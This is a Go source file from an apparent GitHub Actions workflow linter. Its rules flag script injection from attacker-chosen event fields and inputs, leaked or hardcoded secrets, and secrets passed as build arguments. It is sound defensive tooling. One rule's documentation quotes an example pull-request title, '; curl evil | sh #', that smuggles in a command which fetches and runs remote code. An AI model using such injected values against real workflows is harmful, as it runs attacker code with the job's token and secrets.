package workflow

import (
	"regexp"
	"slices"
	"strings"
	"sync"

	"github.com/boltseal/boltseal"
	"github.com/boltseal/boltseal/syntax/manifest"
)

// chosen are the contexts whose values strangers choose: titles, texts,
// names of branches and people. A "*" is any one word.
var chosen = []string{
	"github.event.issue.title", "github.event.issue.body", "github.event.pull_request.title", "github.event.pull_request.body",
	"github.event.pull_request.head.ref", "github.event.pull_request.head.label", "github.event.pull_request.head.repo.default_branch",
	"github.event.pull_request.head.repo.description", "github.event.pull_request.head.repo.homepage", "github.event.comment.body",
	"github.event.review.body", "github.event.review_comment.body", "github.event.discussion.title", "github.event.discussion.body",
	"github.event.pages.*.page_name", "github.event.commits.*.message", "github.event.commits.*.author.email", "github.event.commits.*.author.name",
	"github.event.head_commit.message", "github.event.head_commit.author.email", "github.event.head_commit.author.name",
	"github.event.workflow_run.head_branch", "github.event.workflow_run.head_commit.message", "github.event.workflow_run.head_commit.author.email",
	"github.event.workflow_run.head_commit.author.name", "github.event.workflow_run.display_title", "github.event.workflow_run.pull_requests.*.head.ref",
	"github.event.release.name", "github.event.release.body", "github.event.client_payload.*", "github.head_ref",
}

var contextName = sync.OnceValue(func() *regexp.Regexp {
	return regexp.MustCompile(`[A-Za-z_][A-Za-z0-9_-]*(?:\.(?:[A-Za-z_*][A-Za-z0-9_-]*)|\[(?:'[^']*'|\d+|\*)\])+`)
})

var index = sync.OnceValue(func() *regexp.Regexp { return regexp.MustCompile(`\[(?:'([^']*)'|\d+|\*)\]`) })

// contexts are the names in an expression, as "github.event.commits.*.message".
func contexts(expr string) []string {
	var out []string
	for _, name := range contextName().FindAllString(expr, -1) {
		out = append(out, index().ReplaceAllStringFunc(strings.ToLower(name), func(s string) string {
			if name, ok := strings.CutPrefix(s, "['"); ok {
				return "." + strings.TrimSuffix(name, "']")
			}
			return ".*"
		}))
	}
	return out
}

// stranger is the context in an expression that a stranger chooses, or "".
func stranger(expr string) string {
	for _, name := range contexts(expr) {
		for _, pattern := range chosen {
			if sameContext(pattern, name) {
				return name
			}
		}
	}
	return ""
}

func sameContext(pattern, name string) bool {
	a, b := strings.Split(pattern, "."), strings.Split(name, ".")
	if len(a) != len(b) {
		return len(b) > len(a) && a[len(a)-1] == "*" && sameContext(strings.Join(a, "."), strings.Join(b[:len(a)], "."))
	}
	for i := range a {
		if a[i] != b[i] && a[i] != "*" && b[i] != "*" {
			return false
		}
	}
	return true
}

// safe tells whether an expression's own function makes any value harmless.
func safe(expr string) bool {
	for _, f := range []string{"contains(", "startswith(", "endswith(", "hashfiles("} {
		if strings.HasPrefix(strings.ToLower(strings.TrimSpace(expr)), f) {
			return true
		}
	}
	return strings.Contains(expr, "==") || strings.Contains(expr, "!=")
}

// scripts yields every text of the file that an interpreter reads, with what
// it is.
func (p *Pass) scripts(yield func(s *Step, n *manifest.Node)) {
	for s := range p.Steps() {
		if s.Run != nil {
			yield(s, s.Run)
		}
		if n := s.With("script"); s.Is("actions/github-script") && n != nil {
			yield(s, n)
		}
	}
}

var _ = add(Rule{
	Check: boltseal.Check{
		ID: "workflow/template-injection", Title: "a stranger's text becomes part of a script", Severity: boltseal.Critical,
		Aliases: []string{"zizmor:template-injection", "checkov:CKV_GHA_2", "semgrep:run-shell-injection"},
		Doc: `GitHub writes the value of ${{ … }} into the script before the shell reads it: a pull request with the title "; curl evil | sh #" runs that command,
with the job's token and secrets. Give the value to the step as a variable, env: {TITLE: ${{ … }}}, and write "$TITLE" in the script.`,
	},
	Run: func(p *Pass) {
		p.scripts(func(s *Step, n *manifest.Node) {
			for e := range expressions(n.Value) {
				if name := stranger(e.text); name != "" && !safe(e.text) {
					p.ReportAt(n, p.spanIn(n, e.start, e.end), name+" is chosen by whoever opens it, and becomes part of the script", p.throughEnv(s, n, e)...)
				}
			}
		})
	},
})

var _ = add(Rule{
	Check: boltseal.Check{
		ID: "workflow/input-injection", Title: "an input becomes part of a script", Severity: boltseal.Medium,
		Aliases: []string{"zizmor:template-injection", "checkov:CKV_GHA_7"},
		Doc: `Whoever starts the workflow, or calls it, writes into the script: more than they may do otherwise, and by accident whenever a value holds a quote. Give
the input to the step as a variable and write "$NAME" in the script.`,
	},
	Run: func(p *Pass) {
		p.scripts(func(s *Step, n *manifest.Node) {
			for e := range expressions(n.Value) {
				for _, name := range contexts(e.text) {
					if (strings.HasPrefix(name, "inputs.") || strings.HasPrefix(name, "github.event.inputs.")) && !safe(e.text) && !p.typed(name) {
						p.ReportAt(n, p.spanIn(n, e.start, e.end), name+" becomes part of the script", p.throughEnv(s, n, e)...)
						break
					}
				}
			}
		})
	},
})

// typed tells whether an input can only be a number, a switch or one of a
// list.
func (p *Pass) typed(name string) bool {
	name = name[strings.LastIndexByte(name, '.')+1:]
	for _, event := range []string{"workflow_dispatch", "workflow_call"} {
		for key, value := range p.Triggers[event].Get("inputs").Entries() {
			if strings.EqualFold(key.Value, name) {
				switch value.Get("type").Str() {
				case "boolean", "number", "choice":
					return true
				}
				return false
			}
		}
	}
	return false
}

// throughEnv is the fix that hands an expression to the script as a variable.
func (p *Pass) throughEnv(s *Step, n *manifest.Node, e expression) []boltseal.Fix {
	place := p.spanIn(n, e.start, e.end)
	if n != s.Run || p.shell(s) != "bash" && p.shell(s) != "sh" || p.File.Text(place) != n.Value[e.start:e.end] || quoted(n.Value[:e.start]) {
		return nil
	}
	names := contexts(e.text)
	if len(names) == 0 || n.Style == manifest.Plain && strings.ContainsAny(n.Value, "#") {
		return nil
	}
	// Names that begin with GITHUB_ are kept for GitHub's own.
	parts := slices.DeleteFunc(strings.Split(names[0], "."), func(s string) bool { return s == "*" || s == "github" || s == "event" || s == "inputs" })
	name := strings.ToUpper(strings.ReplaceAll(strings.Join(parts[max(0, len(parts)-2):], "_"), "-", "_"))
	if strings.TrimLeft(name, "ABCDEFGHIJKLMNOPQRSTUVWXYZ_0123456789") != "" || name == "" {
		return nil
	}
	value := n.Value[e.start:e.end]
	if had := s.Node.Get("env", name); had != nil && had.Str() != value {
		return nil
	}
	edit, err := p.File.Set(s.Node, value, "env", name)
	if err != nil {
		return nil
	}
	edits := []boltseal.Edit{{File: p.File.Name, Span: place, New: "${" + name + "}"}}
	if edit.Span.Start != edit.Span.End || edit.New != "" {
		edits = append(edits, edit)
	}
	return []boltseal.Fix{{Title: "hand it over as $" + name, Edits: edits}}
}

// quoted tells whether a place lies inside single quotes, where a variable is
// not expanded.
func quoted(before string) bool {
	line := before[strings.LastIndexByte(before, '\n')+1:]
	return strings.Count(line, "'")%2 == 1
}

var _ = add(Rule{
	Check: boltseal.Check{
		ID: "workflow/secret-printed", Title: "a secret is written to the log", Severity: boltseal.High,
		Doc: `GitHub masks the exact value of a secret in logs and nothing else: encoded, cut, or in a structure it is readable by everybody who can see the run,
for as long as logs are kept. Hand the secret to the program that needs it as a variable or on its standard input.`,
	},
	Run: func(p *Pass) {
		p.scripts(func(_ *Step, n *manifest.Node) {
			at := 0
			for line := range strings.SplitAfterSeq(n.Value, "\n") {
				word, _, _ := strings.Cut(strings.TrimSpace(line), " ")
				prints := (word == "echo" || word == "printf" || word == "Write-Host" || strings.Contains(line, "console.log(")) && !strings.ContainsAny(strings.ReplaceAll(masked(line), "||", ""), "|>")
				for e := range expressions(line) {
					if secretIn(e.text) && prints {
						p.ReportAt(n, p.spanIn(n, at+e.start, at+e.end), e.text+" is printed")
					}
				}
				at += len(line)
			}
		})
	},
})

func secretIn(expr string) bool {
	for _, name := range contexts(expr) {
		if strings.HasPrefix(name, "secrets.") {
			return true
		}
	}
	return strings.Contains(strings.ToLower(expr), "tojson(secrets)")
}

var _ = add(Rule{
	Check: boltseal.Check{
		ID: "workflow/secret-for-all", Title: "a secret is given to every step", Severity: boltseal.Medium,
		Aliases: []string{"zizmor:overprovisioned-secrets"},
		Doc: `A variable at the top of a workflow is in the environment of every step of every job: of each action, each package's install script, each test. Give the
secret to the one step that uses it. ${{ toJSON(secrets) }} even gives all secrets there are.`,
	},
	Run: func(p *Pass) {
		for _, value := range p.Root.Get("env").Entries() {
			for e := range expressions(value.Str()) {
				if secretIn(e.text) {
					p.Report(value, e.text+" is in the environment of every step")
				}
			}
		}
		for s := range p.Steps() {
			for _, field := range []string{"env", "with"} {
				for _, value := range s.Node.Get(field).Entries() {
					for e := range expressions(value.Str()) {
						if strings.Contains(strings.ToLower(e.text), "tojson(secrets)") {
							p.Report(value, "all secrets are handed over")
						}
					}
				}
			}
		}
	},
})

var _ = add(Rule{
	Check: boltseal.Check{
		ID: "workflow/hardcoded-secret", Title: "a password stands in the file", Severity: boltseal.High,
		Aliases: []string{"zizmor:hardcoded-container-credentials"},
		Doc: `Whoever can read the repository, now or in its history, has the password. Keep it as a secret of the repository and write ${{ secrets.NAME }}; if it was
committed, change it.`,
	},
	Run: func(p *Pass) {
		check := func(n *manifest.Node) {
			if n.Str() != "" && !strings.Contains(n.Str(), "${{") {
				p.Report(n, "the password can be read by whoever reads the file")
			}
		}
		for _, j := range p.Jobs {
			check(j.Node.Get("container", "credentials", "password"))
			for _, s := range j.Node.Get("services").Entries() {
				check(s.Get("credentials", "password"))
			}
			for _, s := range j.Steps {
				if throwaway(s.Uses.Name) {
					continue
				}
				for _, name := range []string{"password", "token", "api-key", "aws-secret-access-key", "github-token", "registry-password", "webhook"} {
					check(s.With(name))
				}
			}
		}
	},
})

// throwaway tells whether an action starts a server for the run alone, whose
// password guards nothing.
func throwaway(action string) bool {
	for _, word := range []string{"postgres", "mysql", "mariadb", "mongo", "redis", "database", "rabbitmq", "sql"} {
		if strings.Contains(action, word) {
			return true
		}
	}
	return false
}

var _ = add(Rule{
	Check: boltseal.Check{
		ID: "workflow/secret-build-argument", Title: "a secret is given to an image build as an argument", Severity: boltseal.High,
		Controls: []string{"CIS-DI-4.10"},
		Doc: `Build arguments are kept in the image's history, where docker history shows them to whoever can pull, and in its provenance. Use the action's secrets
input, with RUN --mount=type=secret in the Dockerfile.`,
	},
	Run: func(p *Pass) {
		for s := range p.Steps() {
			if n := s.With("build-args"); n != nil && s.Is("docker/build-push-action", "docker/bake-action") {
				for e := range expressions(n.Str()) {
					if secretIn(e.text) || strings.Contains(e.text, "github.token") {
						p.ReportAt(n, p.spanIn(n, e.start, e.end), e.text+" stays in the image's history")
					}
				}
			}
		}
	},
})
